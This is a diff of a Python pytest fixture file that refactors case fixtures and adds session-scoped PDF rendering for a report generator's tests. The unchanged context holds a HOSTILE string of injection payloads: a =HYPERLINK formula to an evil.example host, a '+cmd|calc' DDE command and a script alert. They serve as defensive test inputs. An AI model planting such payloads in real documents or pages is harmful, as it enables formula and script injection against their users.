@@ -8,6 +8,7 @@ from datetime import UTC, date, datetime, timedelta
 import numpy as np
 import pytest
 
+from commtrace import report
 from commtrace.brief import Brief, Event, KnownMissing, PartyBrief
 from commtrace.model import (
     Act,
@@ -309,8 +310,7 @@ def ledger() -> tuple[File, ...]:
     )
 
 
-@pytest.fixture
-def case() -> Written:
+def written_case() -> Written:
     """Three communications, two findings, one of them decided."""
     own, texts, found = brief(), dict(TEXTS), messages()
     results = findings()
@@ -330,6 +330,17 @@ def case() -> Written:
     )  # fmt: skip
 
 
+@pytest.fixture
+def case() -> Written:
+    return written_case()
+
+
+@pytest.fixture(scope="session")
+def case_pdf() -> bytes:
+    """The PDF of the case as it is written here: setting it once is enough to look at it often."""
+    return report.pdf(written_case())
+
+
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?x","click") @SUM(1+1) +cmd|calc -2+3 '
     "<script>alert(1)</script>"
@@ -339,8 +350,18 @@ HOSTILE = (
 
 
 @pytest.fixture
-def hostile(case: Written) -> Written:
+def hostile() -> Written:
+    return hostile_case()
+
+
+@pytest.fixture(scope="session")
+def hostile_pdf() -> bytes:
+    return report.pdf(hostile_case())
+
+
+def hostile_case() -> Written:
     """The same case where every word of the evidence tries to act."""
+    case = written_case()
     long = "x" * 40_000
     own = replace(case.brief, title=HOSTILE, terms_of_reference=(HOSTILE,))
     evil = Address(name=HOSTILE, address=HOSTILE)
